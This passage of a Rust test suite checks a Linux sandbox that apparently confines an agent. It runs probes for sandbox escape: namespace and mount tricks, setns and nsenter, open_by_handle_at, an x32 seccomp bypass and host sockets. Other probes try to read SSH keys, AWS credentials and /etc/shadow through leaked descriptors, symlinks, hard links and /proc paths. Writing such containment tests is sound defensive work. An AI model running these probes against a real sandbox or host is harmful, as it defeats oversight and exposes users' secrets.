// os.unshare; ctypes does the same), and clone3, whose flags a filter cannot read.
#[test]
fn new_user_namespace_syscalls_denied() {
    let body = r#"
CLONE_NEWUSER = 0x10000000
SIGCHLD = 17
def child_clone():
    pid = libc.syscall(NR['clone'], CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    if pid < 0:
        return en(ctypes.get_errno())
    os.waitpid(pid, 0)
    return 'OK'
report('clone', child_clone)
report('clone3', lambda: sc('clone3', ctypes.create_string_buffer(88), 88))
def do_unshare():
    pid = os.fork()
    if pid == 0:
        r = libc.unshare(CLONE_NEWUSER)
        os._exit(0 if r == 0 else ctypes.get_errno())
    _, st = os.waitpid(pid, 0)
    return 'OK' if os.WEXITSTATUS(st) == 0 else en(os.WEXITSTATUS(st))
report('unshare', do_unshare)
"#;
    for who in who() {
        let f = Fixture::new(who);
        expect_host(
            who,
            &f.ws,
            "clone(CLONE_NEWUSER)",
            body,
            &[],
            "clone",
            &["OK"],
        );
        expect_host(
            who,
            &f.ws,
            "unshare(CLONE_NEWUSER)",
            body,
            &[],
            "unshare",
            &["OK"],
        );
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &[]);
            let ctx = format!("[{who:?}/{}] userns syscalls", variant_name(extra));
            want(&ctx, &out, &v, "clone", &["EPERM"]);
            want(&ctx, &out, &v, "unshare", &["EPERM"]);
            want(&ctx, &out, &v, "clone3", &["ENOSYS"]);
        }
    }
}

// Every other namespace type: a mount, net, pid, ipc, uts, cgroup or time namespace would let a
// process (with a user namespace or capabilities) remodel its view.
#[test]
fn other_namespace_types_denied() {
    let body = r#"
FLAGS = {'newns': 0x20000, 'newcgroup': 0x2000000, 'newuts': 0x4000000, 'newipc': 0x8000000,
         'newpid': 0x20000000, 'newnet': 0x40000000, 'newtime': 0x80}
for k, fl in FLAGS.items():
    def f(fl=fl):
        pid = os.fork()
        if pid == 0:
            r = libc.unshare(0x10000000 | fl)
            os._exit(0 if r == 0 else ctypes.get_errno())
        _, st = os.waitpid(pid, 0)
        return 'OK' if os.WEXITSTATUS(st) == 0 else en(os.WEXITSTATUS(st))
    report(k, f)
"#;
    for who in who() {
        let f = Fixture::new(who);
        expect_host(
            who,
            &f.ws,
            "unshare(NEWUSER|NEWNS)",
            body,
            &[],
            "newns",
            &["OK"],
        );
        let (out, v) = py_box(&f, FULL, body, &[]);
        for k in [
            "newns",
            "newcgroup",
            "newuts",
            "newipc",
            "newpid",
            "newnet",
            "newtime",
        ] {
            want(&format!("[{who:?}] unshare {k}"), &out, &v, k, &["EPERM"]);
        }
    }
}

// mount(2) of a tmpfs over a directory of the workspace (the user namespace's root would be
// allowed to by the kernel: seccomp and Landlock must refuse).
#[test]
fn mount_denied() {
    let body = r#"
os.makedirs('mnt-target', exist_ok=True)
report('tmpfs', lambda: sc('mount', b'none', b'mnt-target', b'tmpfs', 0, None))
report('bind', lambda: sc('mount', b'.', b'mnt-target', None, 0x1000, None))
report('fsopen', lambda: sc('fsopen', b'tmpfs', 0))
report('open_tree', lambda: sc('open_tree', -100, b'.', 1))
report('after', lambda: 'MOUNTED' if os.path.ismount('mnt-target') else 'NOT-MOUNTED')
"#;
    for who in who() {
        let f = Fixture::new(who);
        // Control: in a fresh user+mount namespace on the host, the same probe mounts.
        let script = py_script(body);
        let mut c = Command::new("unshare");
        c.args(["-r", "-m", python(), "-c", &script])
            .current_dir(&f.ws)
            .env_clear()
            .env("PATH", PATH)
            .stdin(Stdio::null());
        as_who(&mut c, who);
        let out = spawn_wait(c, 20).0;
        want(
            "host control (unshare -rm)",
            &out,
            &vals(&out),
            "tmpfs",
            &["OK"],
        );
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &[]);
            let ctx = format!("[{who:?}/{}] mount", variant_name(extra));
            for k in ["tmpfs", "bind", "fsopen", "open_tree"] {
                want(&ctx, &out, &v, k, &["EPERM"]);
            }
            want(&ctx, &out, &v, "after", &["NOT-MOUNTED"]);
        }
        let _ = std::fs::remove_dir(f.ws.join("mnt-target"));
    }
}

// `unshare -m` + `mount --bind` from the shell, e.g. to bind the workspace over a hidden path.
#[test]
fn unshare_mount_namespace_bind_denied() {
    for who in who() {
        let f = Fixture::new(who);
        std::fs::write(f.ws.join(".env"), "dotenv-secret-value=1\n").unwrap();
        chown_to(&f.ws.join(".env"), who);
        let out = sh_host(
            who,
            &f.ws,
            "unshare -rm sh -c 'mount --bind README.md README.md && echo bound'",
        );
        check(
            stdout(&out).contains("bound"),
            "host control: unshare -rm mount --bind",
            &out,
        );
        let out = sh_box(
            &f,
            FULL,
            "unshare -m mount --bind README.md .env && echo bound1; unshare -rm sh -c 'umount .env && echo unmounted; cat .env'; mount --bind README.md .env && echo bound2; cat .env; true",
        );
        let s = stdout(&out);
        check(
            !s.contains("bound") && !s.contains("unmounted") && !s.contains("dotenv-secret-value"),
            &format!("[{who:?}] unshare -m / mount --bind"),
            &out,
        );
    }
}

// umount(2) of the placeholder that hides .env would reveal the file beneath.
#[test]
fn umount_hidden_dotenv_denied() {
    let body = r#"
report('umount', lambda: sc('umount2', b'.env', 0))
report('umount_detach', lambda: sc('umount2', b'.env', 2))
report('read', lambda: rd('.env'))
"#;
    for who in who() {
        let f = Fixture::new(who);
        std::fs::write(f.ws.join(".env"), "dotenv-secret-value=1\n").unwrap();
        chown_to(&f.ws.join(".env"), who);
        let (out, v) = py_box(&f, FULL, body, &[]);
        let ctx = format!("[{who:?}] umount .env");
        want(&ctx, &out, &v, "umount", &["EPERM"]);
        want(&ctx, &out, &v, "umount_detach", &["EPERM"]);
        want(&ctx, &out, &v, "read", &["EACCES", "EMPTY"]);
    }
}

// chroot(2) (with a crafted root, setuid binaries and libraries could be faked).
#[test]
fn chroot_denied() {
    let body = r#"
os.makedirs('chroot-dir', exist_ok=True)
report('r', lambda: sc('chroot', b'chroot-dir'))
report('pivot_root', lambda: sc('pivot_root', b'.', b'chroot-dir'))
"#;
    for who in who() {
        let f = Fixture::new(who);
        if who == As::Me && is_root() {
            // Only a privileged process can chroot on the host; do it in a throwaway child.
            let out = sh_host(
                who,
                &f.ws,
                "mkdir -p chroot-dir && chroot / true && echo chroot-ok",
            );
            check(
                stdout(&out).contains("chroot-ok"),
                "host control: chroot",
                &out,
            );
        }
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &[]);
            let ctx = format!("[{who:?}/{}] chroot", variant_name(extra));
            want(&ctx, &out, &v, "r", &["EPERM"]);
            want(&ctx, &out, &v, "pivot_root", &["EPERM"]);
        }
        let _ = std::fs::remove_dir(f.ws.join("chroot-dir"));
    }
}

// setns(2) into another process's namespaces through /proc/<pid>/ns (host pid of a process
// outside), and into the box's own pid 1's (always denied by seccomp).
#[test]
fn setns_via_proc_ns_denied() {
    let body = r#"
def join(path):
    fd = os.open(path, os.O_RDONLY)
    return sc('setns', fd, 0)
report('outside_mnt', lambda: join('/proc/%s/ns/mnt' % A[0]))
report('outside_user', lambda: join('/proc/%s/ns/user' % A[0]))
report('self_mnt', lambda: join('/proc/self/ns/mnt'))
"#;
    for who in who() {
        let f = Fixture::new(who);
        let s = Outside::sleep(who);
        if who == As::Me && is_root() {
            expect_host(
                who,
                &f.ws,
                "setns",
                body,
                &[&s.pid()],
                "outside_mnt",
                &["OK"],
            );
        }
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &[&s.pid()]);
            let ctx = format!("[{who:?}/{}] setns", variant_name(extra));
            let outside: &[&str] = if extra == FULL {
                &["ENOENT"]
            } else {
                &["EACCES", "EPERM"]
            };
            want(&ctx, &out, &v, "outside_mnt", outside);
            want(&ctx, &out, &v, "outside_user", outside);
            // Joining even its own namespace is refused: seccomp denies setns outright.
            want(&ctx, &out, &v, "self_mnt", &["EPERM"]);
        }
    }
}

// nsenter(1) into a process outside the box.
#[test]
fn nsenter_outside_process_denied() {
    for who in who() {
        let f = Fixture::new(who);
        let s = Outside::sleep(who);
        let pid = s.pid();
        if who == As::Me && is_root() {
            let out = sh_host(
                who,
                &f.ws,
                &format!("nsenter -t {pid} -m -u -i -n -p true && echo entered"),
            );
            check(
                stdout(&out).contains("entered"),
                "host control: nsenter",
                &out,
            );
        }
        for extra in [FULL, NO_NS] {
            let out = sh_box(
                &f,
                extra,
                &format!("nsenter -t {pid} -a true && echo entered; nsenter -t {pid} -U -m true && echo entered2; nsenter -t 1 -m true && echo entered3; true"),
            );
            check(
                !stdout(&out).contains("entered"),
                &format!("[{who:?}/{}] nsenter", variant_name(extra)),
                &out,
            );
        }
    }
}

// bpf, perf_event_open and userfaultfd: kernel programmability, host tracing, exploit primitive.
#[test]
fn bpf_perf_userfaultfd_denied() {
    let body = r#"
report('bpf', lambda: sc('bpf', 0, None, 0))
attr = ctypes.create_string_buffer(128)
struct.pack_into('IIQ', attr, 0, 1, 128, 0)  # PERF_TYPE_SOFTWARE, PERF_COUNT_SW_CPU_CLOCK
report('perf', lambda: sc('perf_event_open', attr, 0, -1, -1, 0))
report('uffd', lambda: sc('userfaultfd', 1))
report('syslog', lambda: sc('syslog', 10, None, 0))
"#;
    for who in who() {
        let f = Fixture::new(who);
        if who == As::Me && is_root() {
            // Root on the host gets past the permission check (to EFAULT/EINVAL or success).
            let (out, v) = py_host(who, &f.ws, body, &[]);
            for k in ["bpf", "perf", "uffd", "syslog"] {
                assert_ne!(
                    v.get(k).map(String::as_str),
                    Some("EPERM"),
                    "host control {k}: {}",
                    stdout(&out)
                );
            }
        }
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &[]);
            let ctx = format!("[{who:?}/{}] bpf/perf/uffd", variant_name(extra));
            for k in ["bpf", "perf", "uffd", "syslog"] {
                want(&ctx, &out, &v, k, &["EPERM"]);
            }
        }
    }
}

// Loading kernel modules, kexec and reboot (called with arguments that would fail harmlessly
// even if a capability survived).
#[test]
fn kernel_modules_kexec_reboot_denied() {
    let body = r#"
report('init_module', lambda: sc('init_module', None, 0, b''))
report('finit_module', lambda: sc('finit_module', -1, b'', 0))
report('kexec_load', lambda: sc('kexec_load', 0, 0, None, 0xdead0000))
report('reboot', lambda: sc('reboot', 0, 0, 0, None))
"#;
    for who in who() {
        let f = Fixture::new(who);
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &[]);
            let ctx = format!("[{who:?}/{}] modules", variant_name(extra));
            for k in ["init_module", "finit_module", "kexec_load", "reboot"] {
                want(&ctx, &out, &v, k, &["EPERM"]);
            }
        }
    }
}

// open_by_handle_at opens files by inode handle, without a path: the "shocker" escape, which
// would reach a hidden .env or HOME from a handle built from the workspace's mount.
#[test]
fn open_by_handle_at_denied() {
    let body = r#"
class FH(ctypes.Structure):
    _fields_ = [('bytes', ctypes.c_uint), ('type', ctypes.c_int), ('h', ctypes.c_ubyte * 128)]
fh = FH(); fh.bytes = 128; mid = ctypes.c_int()
report('name_to_handle', lambda: sc('name_to_handle_at', -100, b'README.md', ctypes.byref(fh), ctypes.byref(mid), 0))
mfd = os.open('.', os.O_RDONLY)
report('r', lambda: sc('open_by_handle_at', mfd, ctypes.byref(fh), 0))
"#;
    for who in who() {
        let f = Fixture::new(who);
        if who == As::Me && is_root() {
            expect_host(who, &f.ws, "open_by_handle_at", body, &[], "r", &["OK"]);
        }
        for extra in [FULL, NO_NS] {
            expect_box(
                &f,
                "open_by_handle_at",
                body,
                &[],
                "r",
                &[(extra, &["EPERM"])],
            );
        }
    }
}

// A syscall through the x32 ABI (nr | 0x40000000) would bypass a filter that only knows native
// numbers: the process must be killed.
#[cfg(target_arch = "x86_64")]
#[test]
fn x32_abi_syscall_kills_the_process() {
    let body = r#"
print('before=1', flush=True)
r = libc.syscall(ctypes.c_long(NR['getpid'] | 0x40000000))
print('after=' + ('OK' if r != -1 else en(ctypes.get_errno())), flush=True)
"#;
    for who in who() {
        let f = Fixture::new(who);
        let (out, v) = py_host(who, &f.ws, body, &[]);
        check(
            v.contains_key("after"),
            "host control: x32 call returns",
            &out,
        );
        let (out, v) = py_box(&f, FULL, body, &[]);
        check(
            v.contains_key("before")
                && !v.contains_key("after")
                && out.status.code() == Some(128 + libc::SIGSYS),
            &format!("[{who:?}] x32 syscall"),
            &out,
        );
    }
}

// A socket family no namespace confines: AF_VSOCK reaches the hypervisor/host.
#[test]
fn af_vsock_denied() {
    let body = "report('r', lambda: socket.socket(40, socket.SOCK_STREAM).close())";
    for who in who() {
        let f = Fixture::new(who);
        let (_, hv) = py_host(who, &f.ws, body, &[]);
        assert_ne!(
            hv.get("r").map(String::as_str),
            Some("EPERM"),
            "host control: vsock"
        );
        expect_box(
            &f,
            "AF_VSOCK",
            body,
            &[],
            "r",
            &[(FULL, &["EPERM"]), (NO_NS, &["EPERM"])],
        );
    }
}

// AF_PACKET raw sockets sniff or forge traffic: no CAP_NET_RAW in the box (and only loopback).
#[test]
fn af_packet_denied() {
    let body = "report('r', lambda: socket.socket(17, socket.SOCK_RAW, 0).close())";
    for who in who() {
        let f = Fixture::new(who);
        if who == As::Me && is_root() {
            expect_host(who, &f.ws, "AF_PACKET", body, &[], "r", &["OK"]);
        }
        expect_box(
            &f,
            "AF_PACKET",
            body,
            &[],
            "r",
            &[(FULL, &["EPERM"]), (NO_NS, &["EPERM"])],
        );
    }
}

// mknod of a character device (a /dev/mem or disk node of one's own): no CAP_MKNOD, and
// Landlock grants no device creation.
#[test]
fn mknod_device_node_denied() {
    let body = r#"
report('chr', lambda: os.mknod('evil-null', 0o666 | 0o020000, os.makedev(1, 3)))
report('blk', lambda: os.mknod('evil-disk', 0o666 | 0o060000, os.makedev(254, 0)))
"#;
    for who in who() {
        let f = Fixture::new(who);
        if who == As::Me && is_root() {
            let dir = tempfile::tempdir_in(f.dir.path()).unwrap();
            expect_host(who, dir.path(), "mknod", body, &[], "chr", &["OK"]);
        }
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &[]);
            let ctx = format!("[{who:?}/{}] mknod", variant_name(extra));
            want(&ctx, &out, &v, "chr", &["EPERM", "EACCES"]);
            want(&ctx, &out, &v, "blk", &["EPERM", "EACCES"]);
            assert!(!f.ws.join("evil-null").exists() && !f.ws.join("evil-disk").exists());
        }
    }
}

// A setuid-root binary in the workspace gives nothing: no-new-privs (and, with the namespace
// layer, an unmapped owner) keep the effective uid.
#[test]
fn setuid_binary_gives_nothing() {
    if !is_root() || test_user().is_none() {
        return;
    }
    let f = Fixture::new(As::User);
    let suid = f.ws.join("suid-id");
    std::fs::copy("/usr/bin/id", &suid).unwrap();
    std::os::unix::fs::chown(&suid, Some(0), Some(0)).unwrap();
    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let out = sh_host(As::User, &f.ws, "./suid-id -u");
    check(
        stdout(&out).trim() == "0",
        "host control: setuid id gives euid 0",
        &out,
    );
    let uid = uid_of(As::User).to_string();
    for extra in [FULL, NO_NS] {
        let out = sh_box(
            &f,
            extra,
            "./suid-id -u; grep -E '^(NoNewPrivs|CapEff)' /proc/self/status",
        );
        let s = stdout(&out);
        check(
            s.lines().next() == Some(uid.as_str())
                && s.contains("NoNewPrivs:\t1")
                && s.contains("CapEff:\t0000000000000000"),
            &format!("[User/{}] setuid binary", variant_name(extra)),
            &out,
        );
    }
    let _ = std::fs::remove_file(&suid);
}

// personality(2) flags like ADDR_NO_RANDOMIZE are harmless inside, but READ_IMPLIES_EXEC or
// changing the ABI must not reach the supervisor; here: the box cannot turn off the foreign-ABI
// kill by switching to PER_LINUX32 and making a native call from a 32-bit personality.
#[test]
fn personality_does_not_bypass_the_filter() {
    let body = r#"
libc.personality.restype = ctypes.c_int
print('set=' + str(libc.personality(0x0008)), flush=True)  # PER_LINUX32
report('keyctl', lambda: sc('keyctl', 0, -4, 0))
report('ptrace', lambda: sc('ptrace', 16, 1, 0, 0))
"#;
    for who in who() {
        let f = Fixture::new(who);
        let (out, v) = py_box(&f, FULL, body, &[]);
        let ctx = format!("[{who:?}] personality");
        want(&ctx, &out, &v, "keyctl", &["EPERM"]);
        want(&ctx, &out, &v, "ptrace", &["EPERM"]);
    }
}

// -------------------------------------------------------------------------------------------
// Sockets and the network
// -------------------------------------------------------------------------------------------

/// A unix (or TCP) server on the host answering every connection with a secret.
struct Server {
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    path: Option<PathBuf>,
    handle: Option<std::thread::JoinHandle<()>>,
}

impl Server {
    fn unix_path(path: PathBuf) -> Server {
        let _ = std::fs::remove_file(&path);
        let l = std::os::unix::net::UnixListener::bind(&path).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
        Server::serve_unix(l, Some(path))
    }

    fn unix_abstract(name: &str) -> Server {
        use std::os::linux::net::SocketAddrExt;
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
        let l = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
        Server::serve_unix(l, None)
    }

    fn serve_unix(l: std::os::unix::net::UnixListener, path: Option<PathBuf>) -> Server {
        l.set_nonblocking(true).unwrap();
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let st = stop.clone();
        let handle = std::thread::spawn(move || {
            while !st.load(std::sync::atomic::Ordering::Relaxed) {
                match l.accept() {
                    Ok((mut c, _)) => {
                        let _ = std::io::Write::write_all(&mut c, b"socket-secret-value\n");
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        Server {
            stop,
            path,
            handle: Some(handle),
        }
    }

    fn tcp() -> (Server, u16) {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        l.set_nonblocking(true).unwrap();
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let st = stop.clone();
        let handle = std::thread::spawn(move || {
            while !st.load(std::sync::atomic::Ordering::Relaxed) {
                match l.accept() {
                    Ok((mut c, _)) => {
                        let _ = std::io::Write::write_all(&mut c, b"socket-secret-value\n");
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        (
            Server {
                stop,
                path: None,
                handle: Some(handle),
            },
            port,
        )
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
        if let Some(p) = &self.path {
            let _ = std::fs::remove_file(p);
        }
    }
}

const UNIX_CONNECT: &str = r#"
def conn():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    addr = A[0].encode()
    if addr.startswith(b'@'):
        addr = b'\0' + addr[1:]
    s.connect(addr)
    return recv_all(s)
report('r', conn)
"#;

// A path socket under /run served outside the box (docker.sock, systemd, D-Bus live there):
// /run is masked.
#[test]
fn unix_socket_in_run_unreachable() {
    let path = PathBuf::from(format!("/run/agentbox-test-{}.sock", std::process::id()));
    if !Path::new("/run").is_dir() {
        return;
    }
    let _srv = Server::unix_path(path.clone());
    let p = path.to_str().unwrap();
    for who in who() {
        let f = Fixture::new(who);
        expect_host(
            who,
            &f.ws,
            "connect /run socket",
            UNIX_CONNECT,
            &[p],
            "r",
            &["LEAK"],
        );
        expect_box(
            &f,
            "connect /run socket",
            UNIX_CONNECT,
            &[p],
            "r",
            &[(FULL, &["ENOENT"])],
        );
    }
}

// A path socket under /tmp served outside the box (ssh-agent, tmux, X11 live there): the box
// has a private /tmp.
#[test]
fn unix_socket_in_tmp_unreachable() {
    let path = PathBuf::from(format!("/tmp/agentbox-test-{}.sock", std::process::id()));
    let _srv = Server::unix_path(path.clone());
    let p = path.to_str().unwrap();
    for who in who() {
        let f = Fixture::new(who);
        expect_host(
            who,
            &f.ws,
            "connect /tmp socket",
            UNIX_CONNECT,
            &[p],
            "r",
            &["LEAK"],
        );
        expect_box(
            &f,
            "connect /tmp socket",
            UNIX_CONNECT,
            &[p],
            "r",
            &[(FULL, &["ENOENT"])],
        );
    }
}

// An abstract unix socket served outside (D-Bus, X11 and containerd use these): the network
// namespace separates them; without it, Landlock's abstract-socket scope must refuse.
#[test]
fn abstract_unix_socket_unreachable() {
    let name = format!("agentbox-test-{}", std::process::id());
    let _srv = Server::unix_abstract(&name);
    let at = format!("@{name}");
    for who in who() {
        let f = Fixture::new(who);
        expect_host(
            who,
            &f.ws,
            "connect abstract",
            UNIX_CONNECT,
            &[&at],
            "r",
            &["LEAK"],
        );
        expect_box(
            &f,
            "connect abstract socket",
            UNIX_CONNECT,
            &[&at],
            "r",
            &[
                (FULL, &["ECONNREFUSED"]),
                (NO_NS, &["EPERM"]),
                (NO_SECCOMP, &["ECONNREFUSED"]),
            ],
        );
    }
}

// A TCP service on the host's loopback (databases, dev servers, cloud metadata proxies) and the
// outside network: network mode off.
#[test]
fn tcp_to_host_loopback_and_network_unreachable() {
    let (_srv, port) = Server::tcp();
    let body = r#"
def tcp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect((host, port))
    return recv_all(s)
report('loopback', lambda: tcp('127.0.0.1', int(A[0])))
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b'x', ('192.0.2.1', 53))
report('udp_out', udp)
report('tcp_out', lambda: tcp('192.0.2.1', 80))
"#;
    let p = port.to_string();
    for who in who() {
        let f = Fixture::new(who);
        expect_host(
            who,
            &f.ws,
            "tcp loopback",
            body,
            &[&p],
            "loopback",
            &["LEAK"],
        );
        let (out, v) = py_box(&f, FULL, body, &[&p]);
        let ctx = format!("[{who:?}] network");
        want(&ctx, &out, &v, "loopback", &["ECONNREFUSED"]);
        want(&ctx, &out, &v, "udp_out", &["ENETUNREACH"]);
        want(&ctx, &out, &v, "tcp_out", &["ENETUNREACH"]);
    }
}

// -------------------------------------------------------------------------------------------
// Descriptors
// -------------------------------------------------------------------------------------------

fn pipe_with(data: &[u8]) -> (OwnedFd, OwnedFd) {
    let mut fds = [0; 2];
    // SAFETY: pipe2 fills two descriptors we then own.
    assert_eq!(unsafe { libc::pipe2(fds.as_mut_ptr(), libc::O_CLOEXEC) }, 0);
    // SAFETY: fresh descriptors.
    let (r, w) = unsafe { (OwnedFd::from_raw_fd(fds[0]), OwnedFd::from_raw_fd(fds[1])) };
    // SAFETY: writing a small buffer into our pipe.
    let n = unsafe { libc::write(w.as_raw_fd(), data.as_ptr().cast(), data.len()) };
    assert_eq!(n as usize, data.len());
    (r, w)
}

/// Leak `fds` (clear close-on-exec in the child only) into `c`.
fn leak_fds(c: &mut Command, fds: Vec<i32>) {
    // SAFETY: fcntl only, async-signal-safe.
    unsafe {
        c.pre_exec(move || {
            for fd in &fds {
                if libc::fcntl(*fd, libc::F_SETFD, 0) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            Ok(())
        });
    }
}

// A descriptor inherited from the caller: a pipe holding a secret, its read end leaked into
// agentbox without close-on-exec; and a directory descriptor to HOME (openat through it would
// bypass every path rule).
#[test]
fn inherited_descriptors_give_nothing() {
    for (layout, f) in layouts(As::Me)
        .into_iter()
        .chain(if who().contains(&As::User) {
            layouts(As::User)
        } else {
            vec![]
        })
    {
        let who = f.owner;
        let run = |in_box: bool| -> Output {
            let (r, _w) = pipe_with(b"pipe-secret-value\n");
            let home = std::fs::File::open(&f.home).unwrap();
            let (rfd, hfd) = (r.as_raw_fd(), home.as_raw_fd());
            let script = format!(
                "cat <&{rfd} | head -c 100; echo; cat /proc/self/fd/{hfd}/.ssh/id_ed25519; ls /proc/self/fd/{hfd}/; echo end"
            );
            let mut c = if in_box {
                boxcmd(&f, FULL, &["sh", "-c", &script])
            } else {
                let mut c = Command::new("sh");
                c.args(["-c", &script])
                    .current_dir(&f.ws)
                    .env_clear()
                    .env("PATH", PATH);
                as_who(&mut c, who);
                c
            };
            // Read end non-blocking so `cat` ends when the pipe is empty.
            // SAFETY: fcntl on our own descriptor.
            unsafe { libc::fcntl(rfd, libc::F_SETFL, libc::O_NONBLOCK) };
            c.stdin(Stdio::null());
            leak_fds(&mut c, vec![rfd, hfd]);
            let out = spawn_wait(c, 20).0;
            drop(home);
            out
        };
        let out = run(false);
        check(
            stdout(&out).contains("pipe-secret-value")
                && stdout(&out).contains("CREDENTIAL-FILE-CONTENT"),
            &format!("[{who:?}/{layout}] host control: leaked fds work"),
            &out,
        );
        let out = run(true);
        assert_no_secret(&out);
        let s = stdout(&out);
        check(
            s.contains("end")
                && !s.contains("pipe-secret-value")
                && !s.contains("CREDENTIAL")
                && !s.contains(".ssh"),
            &format!("[{who:?}/{layout}] leaked descriptors"),
            &out,
        );
    }
}

// -------------------------------------------------------------------------------------------
// Paths toward the credentials: symlinks, hard links, /proc/self/cwd, /proc/1/root
// -------------------------------------------------------------------------------------------

const READ_PATH: &str = "report('r', lambda: rd(A[0]))";

/// Run the read probe for `path` on the host (must leak) and in the box (must not).
fn read_blocked(f: &Fixture, layout: &str, name: &str, path: &str, host_path: Option<&str>) {
    if let Some(hp) = host_path {
        expect_host(
            f.owner,
            &f.ws,
            &format!("{layout}: {name}"),
            READ_PATH,
            &[hp],
            "r",
            &["LEAK"],
        );
    }
    let (out, v) = py_box(f, FULL, READ_PATH, &[path]);
    let ctx = format!("[{:?}/{layout}] {name} ({path})", f.owner);
    want(&ctx, &out, &v, "r", &["ENOENT", "EACCES", "ELOOP"]);
}

// The credentials themselves, in a HOME outside /tmp (real machines): Landlock alone.
#[test]
fn home_credentials_outside_tmp_unreadable() {
    for who in who() {
        let f = fixture_outside_tmp(who);
        for file in CRED_FILES {
            let p = f.home.join(file);
            let p = p.to_str().unwrap();
            read_blocked(&f, "var", file, p, Some(p));
        }
        let out = sh_box(&f, FULL, "ls -a \"$HOME\" \"$HOME/.ssh\"; echo end");
        check(
            !stdout(&out).contains("id_ed25519"),
            &format!("[{who:?}] list HOME"),
            &out,
        );
    }
}

// A symlink in the workspace pointing at ~/.ssh/id_ed25519, planted before the run.
#[test]
fn symlink_planted_outside_to_credential() {
    for who in who() {
        for (layout, f) in layouts(who) {
            let link = f.ws.join("innocent.txt");
            std::os::unix::fs::symlink(f.home.join(".ssh/id_ed25519"), &link).unwrap();
            let _ = std::os::unix::fs::lchown(&link, Some(uid_of(who)), None);
            read_blocked(
                &f,
                layout,
                "planted symlink",
                "innocent.txt",
                Some("innocent.txt"),
            );
        }
    }
}

// A symlink created inside the box toward the credential (relative and absolute).
#[test]
fn symlink_created_inside_to_credential() {
    let body = r#"
os.symlink(A[0], 'abs-link')
os.symlink('../../home/.ssh/id_ed25519', 'rel-link')
report('abs', lambda: rd('abs-link'))
report('rel', lambda: rd('rel-link'))
"#;
    for who in who() {
        for (layout, f) in layouts(who) {
            let key = f.home.join(".ssh/id_ed25519");
            let key = key.to_str().unwrap();
            let (out, v) = py_box(&f, FULL, body, &[key]);
            let ctx = format!("[{who:?}/{layout}] symlink made inside");
            want(&ctx, &out, &v, "abs", &["ENOENT", "EACCES"]);
            want(&ctx, &out, &v, "rel", &["ENOENT", "EACCES"]);
            // The links themselves are the agent's files and may stay; they give nothing later
            // inside a box either.
        }
    }
}

// A hard link from inside the box to the credential (and to /etc/shadow): the link would be a
// workspace path with the workspace's rights.
#[test]
fn hard_link_inside_to_credential_or_shadow() {
    let body = r#"
report('link_key', lambda: os.link(A[0], 'key-hardlink'))
report('read_key', lambda: rd('key-hardlink'))
report('link_shadow', lambda: os.link('/etc/shadow', 'shadow-hardlink'))
report('read_shadow', lambda: 'LEAK' if b'root:' in open('shadow-hardlink', 'rb').read() else 'DATA')
"#;
    for who in who() {
        for (layout, f) in layouts(who) {
            let key = f.home.join(".ssh/id_ed25519");
            let key = key.to_str().unwrap();
            // Control: on the host, the same links work (same filesystem).
            let ctl = tempfile::tempdir_in(f.dir.path()).unwrap();
            chown_to(ctl.path(), who);
            expect_host(
                who,
                ctl.path(),
                "hard link",
                body,
                &[key],
                "read_key",
                &["LEAK"],
            );
            let (out, v) = py_box(&f, FULL, body, &[key]);
            let ctx = format!("[{who:?}/{layout}] hard link");
            want(
                &ctx,
                &out,
                &v,
                "link_key",
                &["ENOENT", "EACCES", "EXDEV", "EPERM"],
            );
            want(&ctx, &out, &v, "read_key", &["ENOENT"]);
            want(&ctx, &out, &v, "link_shadow", &["EXDEV", "EACCES", "EPERM"]);
            want(&ctx, &out, &v, "read_shadow", &["ENOENT"]);
            assert!(!f.ws.join("key-hardlink").exists() && !f.ws.join("shadow-hardlink").exists());
        }
    }
}

// /proc/self/cwd/../../home/.ssh/id_ed25519: walking out of the workspace through procfs.
#[test]
fn proc_self_cwd_dotdot_to_credential() {
    for who in who() {
        for (layout, f) in layouts(who) {
            // ws = <dir>/work/repo, home = <dir>/home
            let p = "/proc/self/cwd/../../home/.ssh/id_ed25519";
            read_blocked(&f, layout, "/proc/self/cwd/..", p, Some(p));
            read_blocked(
                &f,
                layout,
                "cwd ../..",
                "../../home/.aws/credentials",
                Some("../../home/.aws/credentials"),
            );
        }
    }
}

// /proc/1/root/<home>/...: another process's root directory (pid 1 is the box's init here;
// on the host it is the real init).
#[test]
fn proc_1_root_to_credential() {
    for who in who() {
        for (layout, f) in layouts(who) {
            let p = format!("/proc/1/root{}", f.home.join(".ssh/id_ed25519").display());
            let own = format!("/proc/self/root{}", f.home.join(".kube/config").display());
            // On the host /proc/1/root needs ptrace access to init (root only).
            // No host control for /proc/1/root: the host's init may be out of reach even for
            // root (it is here); /proc/self/root is the control for the path form.
            read_blocked(&f, layout, "/proc/1/root", &p, None);
            read_blocked(&f, layout, "/proc/self/root", &own, Some(&own));
        }
    }
}

// /proc/self/mountinfo shows where the hidden and masked things are; no path it names leads to
